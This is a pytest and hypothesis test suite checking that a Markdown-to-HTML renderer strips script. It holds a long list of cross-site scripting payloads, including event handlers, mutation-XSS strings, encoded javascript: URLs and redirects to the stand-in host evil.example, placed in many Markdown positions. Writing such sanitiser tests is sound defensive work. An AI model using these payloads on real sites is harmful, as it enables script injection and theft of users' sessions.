"""Markdown written to do harm: script in every place where a page keeps what somebody wrote."""

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from plein.web.markup import FileRef, LinkContext, mark_wanted, render

_LINKS = LinkContext("demo", files={"a.png": FileRef("/files/u/a.png", 1, 1, is_image=True)}.get)

_TAGS = {
    *("h2", "h3", "h4", "h5", "h6", "p", "br", "hr", "blockquote", "pre", "code", "ul", "ol", "li", "dl", "dt"),
    *("dd", "em", "strong", "s", "sup", "a", "span", "img", "div", "details", "summary", "section", "input"),
    *("table", "thead", "tbody", "tr", "th", "td"),
}
_ATTRIBUTES = {
    *("href", "title", "rel", "id", "class", "src", "alt", "width", "height", "loading", "decoding", "tabindex"),
    *("role", "aria-label", "scope", "type", "disabled", "checked", "open", "start", "data-link", "data-embed"),
}

_SCRIPTS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href=javascript:alert(1)?>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    '" onmouseover="alert(1)" x="',
    '`" onmouseover=alert(1)`',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "</p></div></section><script>alert(1)</script>",
    "javascript:alert(1)",
    "JAVASCRIPT&colon;alert(1)",
    "&#106;&#97;vascript:alert(1)",
    "&#x6A;avascript&#58;alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "&#1;javascript:alert(1)",
    "java\tscript:alert(1)",
    "%6Aavascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "//evil.example",
    "/\\evil.example",
    'https://evil.example/"onmouseover=alert(1)',
    'file:"><script>alert(1)</script>',
    "x style=position:fixed",
    "{onclick=alert(1) .x #y}",
    "{{ request.db }}",
    "${request.db}",
    "\u2028<script>\u2029alert(1)</script>",
    "<scr\x00ipt>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
]

_PLACES = [
    "{}",
    "# {}",
    "> {}",
    "- [ ] {}",
    "[x]({})",
    "[x](<{}>)",
    "[{}](/x)",
    '[x](/x "{}")',
    "[x](/x '{}')",
    "[x]\n\n[x]: {} '{}'",
    "[x]\n\n[x]: <{}>",
    "![{}](file:a.png)",
    "![x](file:{})",
    "![x](<file:{}>)",
    '![x]({} "{}")',
    '![a](file:a.png "{}")',
    "![[{}]({})]({})",
    "[a![b]({})]({})",
    "<{}>",
    "https://example.org/{}",
    "[[{}]]",
    "[[x|{}]]",
    "[[{}|x]]",
    "[[x#{}]]",
    "[[a:{}]]",
    "| {} |\n|---|\n| {} |",
    "> [!NOTE] {}\n> {}",
    "> [!NOTE]- {}",
    "```{}\n{}\n```",
    "```python\n{}\n```",
    "```html\n{}\n```",
    "@{} @group:{}",
    "{{wiki:{}}}",
    "{{{}/wiki:x}}",
    "[[wiki:{}|{}]]",
    "[[{}/wiki:x]]",
    "~~~ {}\n{}",
    "`{}`",
    "x[^{}]\n\n[^{}]: {}",
    "x[^1]\n\n[^1]: {}",
    "{}\n: {}",
    "**{}** ~~{}~~",
    "1. {}\n\n   {}",
    "\\{}",
]


class _Check(HTMLParser):
    """Refuses whatever the sanitiser should never let through, and whatever is not well nested."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.open: list[str] = []
        self.ids: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in _TAGS
        for name, value in attrs:
            assert name in _ATTRIBUTES
            self._check_value(tag, name, value or "")
        if tag == "a":
            assert "a" not in self.open
        if tag not in ("br", "hr", "img", "input"):
            self.open.append(tag)

    def _check_value(self, tag: str, name: str, value: str) -> None:
        if name == "href":
            assert value.startswith(("http://", "https://", "mailto:", "#", "/")) or value[:5].lower() == "http:"
            assert not value.startswith(("//", "/\\"))
        elif name == "src":
            assert value == "/files/u/a.png"
        elif name == "id":
            assert value.startswith("user-content-")
            self.ids.append(value)
        elif name == "data-link":
            assert all(sign.isalnum() or sign in "-:" for sign in value)
        elif name == "type":
            assert (tag, value) == ("input", "checkbox")

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"comment {data!r}")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(f"declaration {decl!r}")

    handle_pi = handle_decl
    unknown_decl = handle_decl


def _check(source: str) -> None:
    html = render(source, links=_LINKS).html
    check = _Check()
    check.feed(mark_wanted(html, {"demo:x"}))
    check.close()
    assert check.open == []
    assert len(set(check.ids)) == len(check.ids)


@pytest.mark.parametrize("place", _PLACES)
def test_no_script_gets_through_wherever_it_stands(place: str) -> None:
    for script in _SCRIPTS:
        _check(place.replace("{}", script))
        _check(place.replace("{}", script.replace("|", "\\|").replace(" ", "")))


_PIECES = st.sampled_from(
    [
        *_SCRIPTS,
        *"[]()!*_`~<>|#:\\\"'&^-+=\n\t aé",
        *("\n\n", "[[", "]]", "](", "[^1]", "[^1]: ", "[x]: ", "> ", "- ", "- [ ] ", "    ", "1. ", "```", ": ", "&#"),
        *("| a | b |\n|---|---|\n", "> [!NOTE] ", "file:a.png", "http://", "<br>"),
    ]
)


@settings(max_examples=300, deadline=None)
@given(st.lists(_PIECES, max_size=25).map("".join))
def test_no_mixture_of_signs_gets_script_through(source: str) -> None:
    _check(source)


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=200))
def test_any_text_renders(source: str) -> None:
    _check(source)


def test_language_of_code_becomes_one_harmless_class() -> None:
    html = render('```"><B/onclick=x class\n```', links=_LINKS).html
    assert 'class="language-bonclickx"' in html


def test_parts_of_a_page_cannot_be_imitated() -> None:
    html = render("# main\n\n# user-content-x", links=_LINKS).html
    assert 'id="user-content-main"' in html
    assert 'id="user-content-x"' in html
